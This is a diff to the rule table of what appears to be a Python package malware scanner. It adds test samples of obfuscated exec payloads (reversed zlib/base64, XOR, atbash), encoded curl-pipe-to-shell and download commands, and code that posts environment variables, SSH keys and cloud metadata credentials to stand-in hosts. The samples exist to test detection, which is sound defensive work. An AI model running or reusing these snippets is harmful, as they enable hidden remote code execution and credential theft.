@@ -52,6 +52,13 @@ B64_HELLO = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovL2V4YW1wbGUuaW52YWxpZC9
 # zlib(base64) of: import os; os.system('curl http://example.invalid/x | sh')
 ZB64 = "eJzLzC3ILypRyC8u1isuKcrMS9fILEnNVVBPLirN0cjNUdXXz0gtKsrRzyxOzkzRy8xLSVXIyM9RBwAAvxcR"
 
+# The same, compressed, base64-encoded and reversed (the BlankOBF layer shape).
+ZB64_REVERSED = ("==guUMXdA0UdMIehaUoC9TBzcSss8ycvUxpgcTsiU3ffrIgkSyYhcIq0kXfDcRtkirs49KmB2+Cy"
+                 "RpyLI3CzLzJe")
+# An atbash-style substitution (letters mirrored in string.ascii_letters) of
+# "import socket; s = socket.create_connection(('203.0.113.9', 4444))".
+ATBASH = "RNKLIG HLXPVG; H = HLXPVG.XIVZGV_XLMMVXGRLM(('203.0.113.9', 4444))"
+
 RULES: tuple[Rule, ...] = (
     Rule("python.exec.decoded-payload", "execution", H, CM,
          "code is decoded from an encoded form and executed: the classic hidden payload",
@@ -62,7 +69,17 @@ RULES: tuple[Rule, ...] = (
                   _x(f"__import__('builtins').exec(__import__('base64').b64decode("
                      f"'{B64_HELLO}'[::-1][::-1]))\n"),
                   _x("import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\"vq\")', "
-                     "'rot13'))\n")),
+                     "'rot13'))\n"),
+                  # A BlankOBF-style wrapper: every layer goes through one lambda.
+                  _x(f"_ = lambda __ : __import__('zlib').decompress(__import__('base64')."
+                     f"b64decode(__[::-1]));exec((_)(b'{ZB64_REVERSED}'))\n", "setup.py"),
+                  # Repeating-key XOR over a base64 blob, joined back into source.
+                  _x("import base64, itertools\nexec(''.join(chr(c ^ k) for c, k in zip("
+                     "base64.b64decode('Al4JBEENS1wKUBMWGB0KEkANDl5RTFodTBo='), "
+                     "itertools.cycle(b'k3y'))))\n"),
+                  # A helper function that decodes, then exec of its result.
+                  _x(f"import base64\ndef unpack(s):\n    raw = base64.b64decode(s)\n"
+                     f"    return raw.decode('utf-8')\nexec(unpack('{B64_HELLO}'))\n")),
          valid=(_x("import base64\nICON = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAE=')\n"),
                 _x("import sys, base64, zlib, pickle\n"
                    "def thunk():\n    return pickle.loads(zlib.decompress(base64.b64decode("
@@ -84,7 +101,9 @@ RULES: tuple[Rule, ...] = (
     Rule("python.exec.literal-code", "execution", L, CM,
          "a string literal is executed as code (its content is analysed too)", threats=(3,),
          quiet_at_runtime=True,
-         invalid=(_x("exec('import os; x = 1')\n"),),
+         invalid=(_x("exec('import os; x = 1')\n"),
+                  _x("import string\na = string.ascii_letters\nb = a[::-1]\n"
+                     f"exec(''.join([b[a.index(c)] if c in b else c for c in \"{ATBASH}\"]))\n")),
          valid=(_x("def f():\n    return eval\n"),)),
     Rule("python.obfuscation.hidden-builtin", "obfuscation", H, CM,
          "exec/eval/system reached through __import__, getattr or __builtins__ lookups, a "
@@ -95,8 +114,12 @@ RULES: tuple[Rule, ...] = (
     Rule("python.obfuscation.whitespace-padding", "obfuscation", H, CH,
          "code pushed far to the right behind a run of whitespace, so that editors do not "
          "show it (W4SP stealer trick)", threats=(3,),
-         invalid=(_x("print('setup')" + " " * 300 + ";__import__('os').system('id')\n"),),
-         valid=(_x("x = 1\n" + " " * 20 + "\n"),)),
+         invalid=(_x("print('setup')" + " " * 300 + ";__import__('os').system('id')\n"),
+                  _x("x = 1" + " " * 200 + ",exec(compile('y = 2', 'f', 'exec'))\n")),
+         valid=(_x("x = 1\n" + " " * 20 + "\n"),
+                _x('class Env:\n    """Parameters.\n\n    | name | type |' + " " * 180
+                   + '| default |\n    | `xml_file` | **str** |' + " " * 180
+                   + '| `"ant.xml"` |\n    """\n'))),
     Rule("python.obfuscation.char-arithmetic", "obfuscation", H, CH,
          "identifiers and strings assembled from characters of builtin reprs and shift "
          "arithmetic (oct.__str__()[-3 << 0] ...): machine obfuscation with no benign use",
@@ -147,8 +170,20 @@ RULES: tuple[Rule, ...] = (
                      "setup.py"),
                   _x("import subprocess\nsubprocess.call('powershell -c Invoke-WebRequest "
                      "https://example.invalid/a.exe -OutFile a.exe', shell=True)\n",
-                     "setup.py")),
+                     "setup.py"),
+                  # Commands kept encoded and decoded by a helper right before they run.
+                  _x("import base64, subprocess\ndef d(s):\n    raw = base64.b64decode(s)\n"
+                     "    return raw.decode('utf-8')\ndef fetch(name):\n"
+                     "    subprocess.run(str(d('Y3VybCAtcyBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL2EgLW8g"
+                     "L3RtcC9hICYmIGNobW9kICt4IC90bXAvYQ==')).format(name), shell=True)\n")),
          valid=(_x("import subprocess\nsubprocess.check_call(['cmake', '..'])\n", "setup.py"),)),
+    Rule("python.process.decoded-command", "obfuscation", H, CH,
+         "a command is decoded from an encoded form (base64, hex, a decoding helper) right "
+         "before it runs: nobody reading the code sees what it runs", threats=(3, 4),
+         invalid=(_x("import os, base64\n"
+                     "os.system(base64.b64decode('ZWNobyBoaSA+IC90bXAveA==').decode())\n",
+                     "setup.py"),),
+         valid=(_x("import os\nos.system('echo hi')\n", "setup.py"),)),
     Rule("python.process.detached", "evasion", M, CM,
          "a process is started detached or with its output silenced, so the user never sees "
          "it", strong=(H, CM), threats=(2,), quiet_at_runtime=True,
@@ -160,7 +195,9 @@ RULES: tuple[Rule, ...] = (
          "a new interpreter is started with code on its command line (sys.executable -c); "
          "the code is analysed too", strong=(H, CH), threats=(1, 2), quiet_at_runtime=True,
          invalid=(_x("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
-                     "'import os; print(1)'])\n"),),
+                     "'import os; print(1)'])\n"),
+                  _x("import os\nos.system('python3 -c \"import os; print(1)\" > /tmp/o')\n",
+                     "setup.py")),
          valid=(_x("import subprocess, sys\ndef probe():\n    return subprocess.run("
                    "[sys.executable, '-c', 'import sys; print(sys.prefix)'])\n"),)),
     Rule("python.process.daemon-thread", "process", L, CM,
@@ -197,18 +234,36 @@ RULES: tuple[Rule, ...] = (
                   _x("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                      "s.sendto(b'q', ('203.0.113.9', 53))\n")),
          valid=(_x("import socket\nLOCAL = socket.gethostbyname('localhost')\n"),)),
-    Rule("python.network.messenger", "exfiltration", H, CH,
-         "a Discord/Telegram/Slack bot or webhook endpoint: the usual stealer drop box",
-         threats=(10,), runtime_drop=0,
-         invalid=(_x("URL = 'https://discord.com/api/webhooks/1/abc'\n"),
-                  _x("BOT = 'https://api.telegram.org/bot123:abc/sendMessage'\n")),
-         valid=(_x("DOCS = 'https://discord.com/invite/example'\n"),)),
+    Rule("python.network.messenger", "exfiltration", H, CM,
+         "a Discord/Telegram/Slack bot or webhook endpoint: the usual stealer drop box "
+         "(an embedded bot token or webhook id, or a send call in the URL, makes it strong; a "
+         "bare API base URL, as bot libraries ship it, is only a lead)",
+         strong=(H, CH), threats=(10,), runtime_drop=0,
+         invalid=(_x("URL = 'https://discord.com/api/webhooks/1234567890/abc'\n"),
+                  _x("BOT = 'https://api.telegram.org/bot1234567:AAbbCCddEEffGGhhIIjjKK/getMe'\n"),
+                  _x("TOKEN = '1234567:AAbbCCddEEffGGhhIIjjKK'\n"
+                     "URL = f'https://api.telegram.org/bot{TOKEN}/getUpdates'\n"),
+                  _x("import requests\ndef send(t, text):\n    requests.post("
+                     "f'https://api.telegram.org/bot{t}/sendDocument', data=text)\n")),
+         valid=(_x("DOCS = 'https://discord.com/invite/example'\n"),
+                _x("LINK = 'https://t.me/example_channel'\n"))),
     Rule("python.network.request-catcher", "exfiltration", M, CM,
          "a request-catcher or tunnel host (webhook.site, pipedream, oastify, ngrok...) used "
          "by dependency-confusion probes and exfiltration", strong=(H, CH), runtime_drop=0,
          threats=(12, 16),
          invalid=(_x("H = 'https://abc.m.pipedream.net'\n"),),
          valid=(_x("H = 'https://pypi.org/simple/'\n"),)),
+    Rule("python.network.catcher-beacon", "exfiltration", C, CH,
+         "a network call goes to a request catcher, tunnel, messenger bot, paste host or bare "
+         "IP address: where probes report and stolen data or payloads are exchanged",
+         threats=(10, 12, 16),
+         invalid=(_x("import requests\nrequests.get('https://abc123.m.pipedream.net/probe')\n"),
+                  _x("import urllib.request\nURL = 'https://pastebin.com/raw/abcd'\n"
+                     "code = urllib.request.urlopen(URL).read()\n"),
+                  _x("import socket, os\nsocket.gethostbyname(os.getlogin() + "
+                     "'.abc.oast.fun')\n")),
+         valid=(_x("import requests\nDOCS = 'https://webhook.site/'\n"
+                   "def ping():\n    return requests.get('https://pypi.org/simple/')\n"),)),
     Rule("python.network.file-host", "network", M, CM,
          "a paste or anonymous file host (pastebin raw, transfer.sh, Discord attachments) "
          "used to stage payloads", threats=(5,),
@@ -220,14 +275,16 @@ RULES: tuple[Rule, ...] = (
          valid=(_x("LOCAL = 'http://127.0.0.1:8000/'\n"),)),
     Rule("python.secrets.environment", "secrets", L, CM,
          "the whole environment (API keys, tokens) is collected", threats=(12,),
-         invalid=(_x("import os, json\nblob = json.dumps(dict(os.environ))\n"),),
+         invalid=(_x("import os, json, requests\nblob = json.dumps(dict(os.environ))\n"
+                     "requests.post('https://example.invalid/c', data=blob)\n"),),
          valid=(_x("import os, subprocess\ndef build():\n    env = os.environ.copy()\n"
                    "    subprocess.check_call(['make'], env=env)\n"),)),
     Rule("python.secrets.credential-store", "secrets", M, CM,
          "a credential store is named (ssh keys, cloud configs, browser profiles, wallets, "
          "Discord tokens)", strong=(H, CM), threats=(12,), quiet_at_runtime=True,
          invalid=(_x("P = '~/.config/discord/Local Storage/leveldb'\n"),
-                  _x("import os\nK = os.path.expanduser('~/.ssh/id_rsa')\n")),
+                  _x("import os\nK = os.path.expanduser('~/.ssh/id_rsa')\n"),
+                  _x("from pathlib import Path\nK = Path.home() / '.aws' / 'credentials'\n")),
          valid=(_x("def creds():\n    return '~/.aws/credentials'\n"),)),
     Rule("python.fingerprint.host-info", "fingerprinting", L, CM,
          "host identity is collected (host name, user, platform, working directory)",
@@ -241,9 +298,22 @@ RULES: tuple[Rule, ...] = (
                      "requests.post('https://example.invalid/c', json=dict(os.environ))\n"),
                   _x("import os, requests\n"
                      "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
-                     "requests.post('https://example.invalid/c', data=key)\n")),
+                     "requests.post('https://example.invalid/c', data=key)\n"),
+                  _x("import os, requests\n"
+                     "requests.post('http://203.0.113.5/k', data=os.environ['EXAMPLE_TOKEN'])\n"),
+                  _x("import requests\nMETA = 'http://169.254.169.254/latest/meta-data/iam/'\n"
+                     "creds = requests.get(META).text\n"
+                     "requests.post('https://collector.example.invalid/', data=creds)\n")),
          valid=(_x("import os, requests\ndef call(url):\n"
-                   "    return requests.get(url, headers={'User-Agent': 'x'})\n"),)),
+                   "    return requests.get(url, headers={'User-Agent': 'x'})\n"),
+                _x("import os, requests\ndef ask(q):\n    key = os.environ['EXAMPLE_API_KEY']\n"
+                   "    return requests.post('https://api.example.invalid/v1', json={'q': q},\n"
+                   "                         headers={'Authorization': 'Bearer ' + key})\n"),
+                _x("import urllib3\nTOKEN_URL = 'http://169.254.169.254/latest/api/token'\n"
+                   "DOC_URL = 'http://169.254.169.254/latest/dynamic/instance-identity/document'\n"
+                   "http = urllib3.PoolManager()\ndef identity():\n"
+                   "    token = http.request('PUT', TOKEN_URL).data.decode()\n"
+                   "    return http.request('GET', DOC_URL, headers={'X-Token': token})\n"))),
     Rule("python.flow.fingerprint-to-network", "exfiltration", M, CM,
          "host identity (host name, user, cwd) is sent over the network: a "
          "dependency-confusion beacon", strong=(H, CH), threats=(16,),
